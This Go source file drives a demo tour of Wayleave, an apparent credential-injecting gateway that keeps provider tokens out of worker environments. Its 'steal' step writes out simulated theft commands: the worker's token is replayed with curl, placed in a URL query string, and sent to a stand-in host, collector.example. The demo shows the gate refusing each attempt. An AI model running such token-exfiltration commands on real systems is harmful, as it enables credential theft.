package main

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"regexp"
	"strings"

	"wayleave/demo"
)

// tour is one walk through the demo.
type tour struct {
	*world
	*screen
	stolen string // the placeholder, in the hands of whoever read the worker's environment
}

// step is a stop of the tour.
type step struct {
	title string
	show  func(t *tour, ctx context.Context) error
}

// steps are the tour, in order.
var steps = []step{
	{"A gate for one API", (*tour).start},
	{"An operator connects the account, once", (*tour).connect},
	{"What a worker holds", (*tour).holds},
	{"What leaves the worker, and what arrives", (*tour).arrives},
	{"A scope is missing", (*tour).missing},
	{"The reconnect", (*tour).reconnect},
	{"Remote control", (*tour).remoteControl},
	{"Somebody steals what the worker has", (*tour).steal},
	{"An operator ends the session", (*tour).revoke},
	{"Who did what", (*tour).audit},
}

func (t *tour) walk(ctx context.Context) error {
	t.text("A tour of Wayleave, on this machine and nowhere else. What follows a $ is run as it stands there; what is below it is what it printed.")
	for i, s := range steps {
		t.title(i+1, len(steps), s.title)
		if err := s.show(t, ctx); err != nil {
			if errors.Is(err, errEnough) {
				return err
			}
			return fmt.Errorf("step %d, %s: %w", i+1, s.title, err)
		}
		if i == len(steps)-1 {
			break
		}
		if _, err := t.next(ctx, "press a key to go on, q to end", nil); err != nil {
			return err
		}
	}
	return nil
}

// Who types a command.
const (
	operator = "operator"
	worker   = "worker"
	thief    = "thief"
)

// operate shows what an operator types and gets, which has to have want in it.
func (t *tour) operate(ctx context.Context, line, want string) error {
	return t.answer(ctx, operator, line, want, t.sh)
}

// work does the same for the worker.
func (t *tour) work(ctx context.Context, line, want string) error {
	return t.answer(ctx, worker, line, want, t.worker.do)
}

// answer shows what somebody types and gets. What may take its time is asked for again, and only the last answer shown.
func (t *tour) answer(ctx context.Context, who, line, want string, ask func(ctx context.Context, line string) (string, error)) error {
	t.typed(who, line)
	var out string
	err := until(ctx, func() (_ bool, err error) {
		out, err = ask(ctx, line)
		return strings.Contains(out, want), err
	})
	t.printed(out)
	if err != nil {
		return fmt.Errorf("%q was wanted: %w", want, err)
	}
	return nil
}

func (t *tour) start(ctx context.Context) error {
	t.text("This demo brings the rest of the world: a provider that issues tokens, and an API that takes them. The gate is the product itself, with an OpenBao and an Envoy of its own.")
	if err := t.startDemo(); err != nil {
		return err
	}
	t.typed(operator, "wayleave up")
	if err := t.startUp(ctx, t.printed); err != nil {
		return err
	}
	t.look("Its whole configuration is " + t.config() + ": one grant, one route, one worker.")
	return nil
}

func (t *tour) connect(ctx context.Context) error {
	t.demo.Provider.AllowScopes(demo.ScopeInference, "user:profile")
	t.text("The operator's browser opens the provider's consent page. There are three boxes; this operator overlooks one.")
	if err := t.consent(ctx); err != nil {
		return err
	}
	t.look("The tokens went from the provider to OpenBao. Nobody was shown one, the operator included. One scope of three is missing: see what comes of it.")
	return nil
}

// consent connects the grant at the command line. What comes before the code is exchanged is about the browser.
func (t *tour) consent(ctx context.Context) error {
	const line = "wayleave grant connect " + grantName
	t.typed(operator, line)
	out, err := t.sh(ctx, line+" --timeout 2m")
	if err != nil {
		return fmt.Errorf("%w\n%s", err, out)
	}
	_, summary, _ := strings.Cut(out, "Exchanging the code…\n")
	t.printed("…\n" + summary)
	return nil
}

func (t *tour) holds(ctx context.Context) error {
	t.text("A worker is any program: a job, a script, a coding agent. This one is a shell.")
	t.typed(operator, "wayleave run -- sh")
	if err := t.startWorker(ctx); err != nil {
		return err
	}
	if err := t.work(ctx, `env | grep -E '^(ANTHROPIC_AUTH_TOKEN|HTTPS_PROXY|SSL_CERT_FILE)=' | sort | cut -c-64`, "wlplaceholder"); err != nil {
		return err
	}
	t.look("A way out, a CA to trust, and a placeholder where programs look for a token. The placeholder says whose session it is, and is signed; it opens nothing by itself.")
	return nil
}

// Requests of the worker. The API is one of Anthropic's kind. What is refused has no body: curl 7.88 takes an HTTP/2 answer that
// comes before it has sent one for a broken connection.
const (
	messagesURL = "https://" + apiHost + "/v1/messages"
	sessionsURL = "https://" + apiHost + "/v1/code/sessions"

	api = `api() { curl -sS -H "authorization: Bearer $ANTHROPIC_AUTH_TOKEN" "$@"; }
hello='{"model":"demo","max_tokens":9,"messages":[{"role":"user","content":"hello"}]}'`
	ask = `api ` + messagesURL + ` -d "$hello"`
	sdk = `python3 -c '
import anthropic
client = anthropic.Anthropic(base_url="https://` + apiHost + `")
message = client.messages.create(model="demo", max_tokens=9,
    messages=[{"role": "user", "content": "hello from the SDK"}])
print(message.content[0].text)'`
)

func (t *tour) arrives(ctx context.Context) error {
	if err := t.work(ctx, api, ""); err != nil {
		return err
	}
	// The demo provider forgets everything when it ends: after a resumed start the gate may hold a token of its last life
	// until it sees the new consent.
	if err := until(ctx, func() (bool, error) {
		out, err := t.worker.do(ctx, ask)
		return strings.Contains(out, "end_turn"), err
	}); err != nil {
		return fmt.Errorf("the first request was refused: %w; %s has the reason", err, filepath.Join(t.gate(), "gate.log"))
	}
	if err := t.work(ctx, ask+` -v 2>&1 | grep -E '^> (POST|auth)|^{"' | cut -c-96`, "POST "); err != nil {
		return err
	}
	r, err := t.received("/v1/messages")
	if err != nil {
		return err
	}
	if !strings.Contains(r.Authorization, demo.AccessPrefix) || t.demo.API.Saw("wlplaceholder") {
		return errors.New("the placeholder was not replaced by a real token; the log of the gate says why")
	}
	t.text("The API received:")
	t.printed(fmt.Sprintf("%s %s %s\nauthorization: %s", r.Method, r.Path, r.Proto, r.Authorization))
	t.look("The two differ in one header. The real token was set after the request had left the worker, and is never in its sight.")
	python := t.python(ctx)
	if python == "" {
		return nil // it takes nothing from the story
	}
	if dir := filepath.Dir(python); dir != "." { // the clients of 'make tools'
		if _, err := t.worker.do(ctx, "PATH='"+dir+"':$PATH"); err != nil {
			return err
		}
	}
	t.text("Programs need no change, the provider's own SDK for one:")
	return t.work(ctx, sdk, "The demo API received: hello from the SDK")
}

func (t *tour) missing(ctx context.Context) error {
	t.text("This is the case that Wayleave was begun for. To continue a coding agent from a phone, its provider wants one more scope on the token; without it all else works, and nobody is told what is amiss.")
	if err := t.work(ctx, `api -X POST `+sessionsURL, demo.ScopeSessions); err != nil {
		return err
	}
	t.look("The gate refused before anything was sent. It says what lacks which scope, and the one command that mends it.")
	t.text("Everything the grant does cover goes on:")
	return t.work(ctx, ask+` -o /dev/null -w '%{http_code}\n'`, "200")
}

func (t *tour) reconnect(ctx context.Context) error {
	t.text("The operator agrees once more, and overlooks nothing.")
	t.demo.Provider.AllowScopes() // all of them
	exchanges := t.demo.Provider.Stats().Exchanges
	key, err := t.next(ctx, "press a key and it is done by command, or c to click for yourself in the console", nil)
	if err != nil {
		return err
	}
	if key != 'c' {
		err = t.consent(ctx)
	} else {
		err = t.inConsole(ctx, exchanges)
	}
	if err != nil {
		return err
	}
	t.look("All scopes are held. The worker was not told and not restarted: what it holds is the same.")
	return nil
}

// inConsole waits until somebody has reconnected by the browser.
func (t *tour) inConsole(ctx context.Context, exchanges int) error {
	if err := t.operate(ctx, "BROWSER= wayleave console", "http"); err != nil {
		return err
	}
	t.look("Open the link in a browser on this machine. Choose the grant demo, and click Reconnect.")
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	clicked := make(chan struct{})
	watching := make(chan struct{})
	go func() {
		defer close(watching)
		for ctx.Err() == nil {
			if until(ctx, func() (bool, error) { return t.demo.Provider.Stats().Exchanges > exchanges, nil }) == nil {
				close(clicked)
				return
			}
		}
	}()
	key, err := t.next(ctx, "waiting for the click; press a key to have it done by command after all", clicked)
	cancel()
	<-watching
	switch {
	case err != nil:
		return err
	case key != 0:
		return t.consent(ctx)
	}
	return nil
}

func (t *tour) remoteControl(ctx context.Context) error {
	t.text("The same worker, the same command:")
	if err := t.work(ctx, `api -X POST `+sessionsURL+` | tee session.json`, `"session"`); err != nil {
		return err
	}
	t.text("The provider gives each such session a bearer of its own, which the client has to send as it is:")
	const bridge = `id=$(grep -o 'cse_[0-9a-f]*' session.json)
own=$(api -X POST ` + sessionsURL + `/$id/bridge | grep -o 'demo-wt-[0-9a-f]*')
curl -sS -H "authorization: Bearer $own" ` + sessionsURL + `/$id/worker/heartbeat -d '{}'`
	if err := t.work(ctx, bridge, `"ok":true`); err != nil {
		return err
	}
	t.look("That bearer passed untouched: only the worker's own placeholder is swapped. With one swapped too many, remote control would be dead again.")
	return nil
}

func (t *tour) steal(ctx context.Context) error {
	var err error
	if t.stolen, err = t.worker.do(ctx, `printf %s "$ANTHROPIC_AUTH_TOKEN"`); err != nil {
		return err
	}
	t.text("Somebody has read the worker's environment, and has its placeholder in $STOLEN. First, straight at the API:")
	direct := `curl -sS --cacert ` + filepath.Base(t.apiCA()) + ` --connect-to ` + apiHost + `:443:` + t.demo.APIAddr + ` \
  -X POST -H "authorization: Bearer $STOLEN" ` + messagesURL
	if err := t.thieve(ctx, direct, "not valid"); err != nil {
		return err
	}
	t.text("Through the gate, from a session of the thief's own:")
	if err := t.thieve(ctx, `wayleave run -- \
  curl -sS -X POST -H "authorization: Bearer $STOLEN" `+messagesURL+` 2>/dev/null`, "not the one of this session"); err != nil {
		return err
	}
	t.text("Or the worker itself is talked into giving it away: in an address, and to a host of the thief's.")
	if err := t.work(ctx, `api "https://`+apiHost+`/echo?give=$ANTHROPIC_AUTH_TOKEN"`, "where it is not swapped"); err != nil {
		return err
	}
	if err := t.work(ctx, `api https://collector.example/ -v 2>&1 | grep -iE '^< (http|x-wayleave|x-req)'`, "403"); err != nil {
		return err
	}
	t.look("No token was won, and there was none to win: the one that counts never was where the thief is.")
	return nil
}

// thieve does the same for a thief.
func (t *tour) thieve(ctx context.Context, line, want string) error {
	return t.answer(ctx, thief, line, want, func(ctx context.Context, line string) (string, error) {
		return t.sh(ctx, "STOLEN="+t.stolen+"; "+line)
	})
}

func (t *tour) revoke(ctx context.Context) error {
	if err := t.operate(ctx, "wayleave session list", grantName); err != nil {
		return err
	}
	id, err := t.worker.do(ctx, `echo "$HTTPS_PROXY" | sed 's,^http://,,; s,:.*,,'`)
	if err != nil {
		return err
	}
	if err := t.operate(ctx, "wayleave session revoke "+strings.TrimSpace(id), "Revoked"); err != nil {
		return err
	}
	if err := t.work(ctx, `api -X POST `+sessionsURL+` -v 2>&1 | grep -iE '^< (http|x-wayleave|x-req)'`, "session_revoked"); err != nil {
		return err
	}
	t.look("Every gate of a fleet refuses it within five seconds. The account stays connected, and all other workers go on.")
	return nil
}

func (t *tour) audit(ctx context.Context) error {
	t.text("What was refused on this tour, why, and how the last request that was let out ended:")
	if err := t.operate(ctx, "wayleave audit query --outcome refused --limit 5 2>/dev/null", "session_revoked"); err != nil {
		return err
	}
	if err := t.operate(ctx, "wayleave audit query --outcome swapped --limit 1 2>/dev/null", "swapped"); err != nil {
		return err
	}
	t.look("Each with its worker, its grant and its reason, and none with a token. Operators' own deeds are there too: --kind operator.")
	if err := t.operate(ctx, "wayleave audit verify", "lines"); err != nil {
		return err
	}
	env, err := t.worker.do(ctx, "env; set")
	if err != nil {
		return err
	}
	// The bearer that the provider gave to this worker's session is its own.
	env = ownBearer.ReplaceAllString(env, "")
	found, tokens, files, err := t.leaks(map[string]string{"this tour's own words": t.transcript(), "the worker's environment": env})
	if err != nil {
		return err
	}
	if len(found) > 0 {
		return fmt.Errorf("a token of the provider is in %s; that must not be: report it", strings.Join(found, ", "))
	}
	t.look(fmt.Sprintf("And the proof: the provider has issued %d secrets meanwhile. None is in what you have seen, in the worker's environment, or in any of the %d files of %s, OpenBao's data and all logs among them.", tokens, files, t.dir))
	return nil
}

var ownBearer = regexp.MustCompile(`(?m)^own=.*$`)

func (t *tour) tryThis() {
	t.text("Everything stays up until Ctrl-C. In another terminal:")
	t.printed(fmt.Sprintf(`  export PATH=%s:$PATH WAYLEAVE_CONFIG=%s WAYLEAVE_STATE=%s
  wayleave run -- sh                      # look around as a worker: env, curl https://%s/echo …
  wayleave console                        # the operators' pages
  wayleave grant list
  wayleave audit tail
  wayleave config render
  wayleave doctor
`, filepath.Dir(t.wayleave), t.config(), t.gate(), apiHost))
}
